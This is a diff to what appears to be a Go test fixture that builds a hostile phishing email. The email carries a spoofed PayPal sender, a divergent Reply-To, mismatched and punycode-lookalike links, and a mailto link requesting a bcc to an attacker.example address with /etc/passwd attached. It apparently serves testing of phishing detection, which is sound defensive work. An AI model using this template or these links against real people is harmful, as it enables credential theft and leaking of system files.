@@ -202,16 +202,22 @@ func PaddedExecutable() []byte {
 }
 
 // PhishingLinks returns an HTML message whose link texts are web addresses
-// of one site while their targets are another, and whose sender's display
-// name embeds a different address than the one it was sent from.
+// of one site while their targets are another, whose sender's display
+// name embeds a different address than the one it was sent from, whose
+// replies go elsewhere (Reply-To), and with a mailto: link that asks for
+// a blind copy and an attachment.
 func PhishingLinks() []byte {
 	var b bytes.Buffer
 	b.WriteString("From: \"PayPal <service@paypal.com>\" <evil@attacker.example>\r\n")
+	b.WriteString("Reply-To: refunds@elsewhere.example\r\n")
 	b.WriteString("To: Reader <reader@example.org>\r\nSubject: Your account is limited\r\n")
 	b.WriteString("Date: " + Date + "\r\nMessage-ID: <hostile.phishing@example.com>\r\n")
 	b.WriteString("MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n")
 	b.WriteString(`<p>Please confirm your details at <a href="https://attacker.example/login">https://www.paypal.com/signin</a>.</p>` + "\r\n")
 	b.WriteString(`<p><a href="http://10.0.0.1/">Click here</a> or <a href="https://xn--pypal-4ve.com/">www.paypal.com</a>.</p>` + "\r\n")
+	b.WriteString(`<p>Read <a href="https://help.example.org/faq">our help</a>, visit <a href="https://` + LookalikeHost + `/">https://` +
+		LookalikeHost + `/</a> or <a href="mailto:support@example.org?subject=Help&amp;cc=boss@example.org&amp;bcc=spy@attacker.example` +
+		`&amp;attach=/etc/passwd&amp;body=Hi%0Athere">write</a>.</p>` + "\r\n")
 	return b.Bytes()
 }
 
